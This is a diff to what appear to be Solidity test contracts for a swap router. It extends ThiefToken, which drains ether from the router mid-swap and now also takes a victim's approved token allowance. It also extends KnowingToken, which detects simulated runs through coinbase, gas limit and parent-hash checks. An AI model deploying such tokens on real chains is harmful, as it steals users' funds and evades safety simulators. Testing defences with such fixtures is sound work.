@@ -7,10 +7,13 @@ interface IRouter {
     function refundETH() external payable;
 }
 
-/// Calls the router in the middle of a swap, when the pool pays it out, and takes the ether that the router holds.
+/// Calls the router in the middle of a swap, when the pool pays it out, and takes the ether that the router holds. Takes
+/// what it may of another token at the same time.
 contract ThiefToken is TestToken {
     address public router;
     address public pool;
+    TestToken public loot;
+    address public victim;
 
     constructor(string memory name_, string memory symbol_, uint8 decimals_, address holder, uint256 supply)
         TestToken(name_, symbol_, decimals_, holder, supply)
@@ -23,9 +26,17 @@ contract ThiefToken is TestToken {
         pool = pool_;
     }
 
+    function aim(address pool_, TestToken loot_, address victim_) external {
+        pool = pool_;
+        loot = loot_;
+        victim = victim_;
+    }
+
     function _transfer(address from, address to, uint256 value) internal override {
         super._transfer(from, to, value);
-        if (from == pool && router.balance > 0) IRouter(router).refundETH();
+        if (from != pool) return;
+        if (router.balance > 0) IRouter(router).refundETH();
+        if (address(loot) != address(0)) loot.transferFrom(victim, address(this), loot.allowance(victim, address(this)));
     }
 }
 
@@ -41,6 +52,9 @@ contract KnowingToken is TestToken {
         Time,
         Random,
         GasLeft,
+        FeeRecipient,
+        BlockGasLimit,
+        ParentHash,
         Always
     }
 
@@ -48,6 +62,8 @@ contract KnowingToken is TestToken {
     Clue public clue;
     uint256 public blockNumber;
     uint256 public timestamp;
+    address public feeRecipient;
+    uint256 public blockGasLimit;
 
     constructor(string memory name_, string memory symbol_, uint8 decimals_, address holder, uint256 supply)
         TestToken(name_, symbol_, decimals_, holder, supply)
@@ -55,6 +71,7 @@ contract KnowingToken is TestToken {
 
     function arm(address pool_, Clue clue_) external {
         (pool, clue, blockNumber, timestamp) = (pool_, clue_, block.number, block.timestamp);
+        (feeRecipient, blockGasLimit) = (block.coinbase, block.gaslimit);
     }
 
     function _isTrial(address to) private view returns (bool) {
@@ -67,6 +84,9 @@ contract KnowingToken is TestToken {
         if (clue == Clue.Time) return block.timestamp == timestamp;
         if (clue == Clue.Random) return block.prevrandao == 0;
         if (clue == Clue.GasLeft) return gasleft() > 1_500_000;
+        if (clue == Clue.FeeRecipient) return block.coinbase != feeRecipient;
+        if (clue == Clue.BlockGasLimit) return block.gaslimit != blockGasLimit;
+        if (clue == Clue.ParentHash) return blockhash(block.number - 1) == 0;
         return false;
     }
 
